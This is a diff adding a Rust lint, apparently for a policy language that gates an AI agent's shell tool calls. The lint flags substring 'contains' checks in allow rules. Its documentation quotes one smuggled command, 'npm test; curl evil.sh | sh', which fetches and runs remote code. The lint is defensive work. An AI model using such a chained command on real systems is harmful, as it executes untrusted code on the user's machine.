@@ -1,0 +1,67 @@
+//! `toolgate::substring_allow`
+
+use crate::diagnostic::Diagnostic;
+use crate::lint::{declare_lint, warning, Context};
+use crate::resolve::CondTest;
+use crate::syntax::ast::Effect;
+
+declare_lint! {
+    /// ## What it does
+    /// Reports `contains` and `contains any` in an `allow` condition.
+    ///
+    /// ## Why is this bad?
+    /// `contains` is a substring search: `command contains "npm test"` admits
+    /// `npm test; curl evil.sh | sh`. Whatever surrounds the substring is allowed too. In a
+    /// `deny` a substring search is a useful net; in an `allow` it admits far more than it
+    /// names.
+    ///
+    /// ## Example
+    /// ```policy
+    /// tool Bash(command)
+    /// agent builder {
+    ///   allow Bash where command contains "npm test"
+    /// }
+    /// ```
+    ///
+    /// Use instead:
+    /// ```policy
+    /// tool Bash(command)
+    /// agent builder {
+    ///   allow Bash where command == "npm test"
+    /// }
+    /// ```
+    pub static SUBSTRING_ALLOW = {
+        name: "substring_allow",
+        severity: Warning,
+        stage: Lint,
+        summary: "`contains` in an `allow` condition admits anything around the substring",
+    }
+}
+
+/// Runs the lint.
+pub(crate) fn check(cx: &mut Context, out: &mut Vec<Diagnostic>) {
+    for (a, agent) in cx.agents() {
+        for (r, rule) in agent.rules.iter().enumerate() {
+            if rule.effect != Effect::Allow || cx.skip[a][r] {
+                continue;
+            }
+            for c in &rule.conditions {
+                if !matches!(c.test, CondTest::Contains(_)) {
+                    continue;
+                }
+                out.push(
+                    warning(
+                        &SUBSTRING_ALLOW,
+                        c.span,
+                        format!(
+                            "`{}` admits any value that merely contains the text",
+                            c.text
+                        ),
+                    )
+                    .with_label("admits anything around the substring")
+                    .with_help("match the whole value with `==`, `in` or a glob (`matches \"npm run *\"`); keep `contains` for `deny` rules"),
+                );
+            }
+        }
+    }
+}
